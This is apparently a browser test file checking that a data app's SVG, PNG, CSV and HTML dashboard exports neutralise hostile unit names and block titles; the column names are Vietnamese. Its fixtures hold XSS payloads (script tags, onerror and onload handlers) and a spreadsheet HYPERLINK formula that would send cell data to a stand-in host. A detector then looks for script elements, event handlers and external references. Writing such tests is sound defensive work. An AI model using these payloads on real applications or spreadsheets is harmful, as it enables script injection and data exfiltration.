// Exports that cannot attack: a result whose unit names, column names and block title are
// made to hurt (markup, event handlers, external links, spreadsheet formulas) exported as SVG,
// PNG, CSV and the offline HTML snapshot. The SVG and the snapshot hold no script, no event
// handler and no reference outside the document; the CSV holds no live formula.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import { editMode, runSql, useApp } from './harness.mjs';

const app = useApp();

async function downloadOf(page, testid) {
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 120_000 }), page.locator(`[data-testid="${testid}"]`).click()]);
  return readFile(await download.path());
}

const UNITS = [
  `<script>window.__pwned=1</script>`,
  `<img src=x onerror="window.__pwned=2">`,
  `<svg onload="window.__pwned=3"><a href="http://127.0.0.2/">x</a></svg>`,
  `=HYPERLINK("http://127.0.0.2/?d="&A1,"Xem")`,
  `@SUM(1+1)`,
];

/** What in a document could run or fetch: script-like elements, on* attributes, references
 *  that are not to the document itself. Parsed by the browser, as a viewer would. */
function activeParts(page, text, type) {
  return page.evaluate(
    ({ text, type }) => {
      const doc = new DOMParser().parseFromString(text, type);
      const found = [];
      for (const el of doc.querySelectorAll('*')) {
        const name = el.localName.toLowerCase();
        if (['script', 'iframe', 'object', 'embed', 'foreignobject', 'img', 'image', 'link'].includes(name)) found.push(`<${name}>`);
        for (const a of el.attributes) {
          const v = a.value.trim();
          if (/^on/i.test(a.name)) found.push(`${name}@${a.name}`);
          if (/(^|:)(href|src|srcset|action)$/i.test(a.name) && !v.startsWith('#')) found.push(`${name}@${a.name}=${v}`);
          if (/url\(\s*['"]?(?!#)/i.test(v)) found.push(`${name}@${a.name}=${v}`);
        }
      }
      return found;
    },
    { text, type },
  );
}

describe('exports that cannot attack', () => {
  it('SVG, PNG, CSV and the snapshot of hostile names carry no script, handler, external reference or formula', async () => {
    const { page } = await app.open('?empty');
    const values = UNITS.map((u, i) => `('${u.replaceAll("'", "''")}', ${[-5, 3, 7, 2, 4][i]})`).join(', ');
    const result = await runSql(page, `SELECT * FROM (VALUES ${values}) t("Đơn vị", "Lượt tiếp")`);
    assert.equal(await result.getAttribute('data-state'), 'ok');
    await page.locator('[data-testid="chart"] svg').first().waitFor();

    const svg = (await downloadOf(page, 'export-svg')).toString('utf8');
    assert.ok(svg.includes('&lt;script&gt;window.__pwned=1'), 'the unit name is in the SVG, as text');
    assert.deepEqual(await activeParts(page, svg, 'image/svg+xml'), []);
    const png = await downloadOf(page, 'export-png');
    assert.deepEqual([...png.subarray(0, 4)], [0x89, 0x50, 0x4e, 0x47]);

    const csv = Papa.parse((await downloadOf(page, 'export-csv')).toString('utf8').slice(1).trim()).data;
    assert.deepEqual(csv[0], ['Đơn vị', 'Lượt tiếp']);
    assert.deepEqual(csv.slice(1).map((r) => r[1]), ['-5', '3', '7', '2', '4']);
    assert.equal(csv[4][0], `'${UNITS[3]}`);
    assert.equal(csv[5][0], `'${UNITS[4]}`);
    assert.equal(csv[1][0], UNITS[0]);

    // The same result on a dashboard, titled with markup, in the offline snapshot.
    await page.locator('[data-testid="sql-add-block"]').click();
    await page.locator('[data-testid="tab-dashboard"]').click();
    await editMode(page);
    const block = page.locator('[data-testid="dashboard-block"][data-kind="sql"]');
    await block.locator('[data-testid="block-title"]').fill(`<img src=http://127.0.0.2/t.png onerror="window.__pwned=4">`);
    await block.locator('[data-testid="block-title"]').press('Enter');
    await page.locator('[data-testid="dashboard-block"][data-kind="sql"][data-state="ok"]').waitFor({ timeout: 30_000 });
    const html = (await downloadOf(page, 'dashboard-snapshot')).toString('utf8');
    assert.ok(html.includes('&lt;img src=http://127.0.0.2/t.png'), 'the title is in the snapshot, as text');
    // Only the snapshot's own policy <meta> is allowed in its head.
    assert.deepEqual((await activeParts(page, html, 'text/html')).filter((p) => p !== '<meta>'), []);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
  });
});
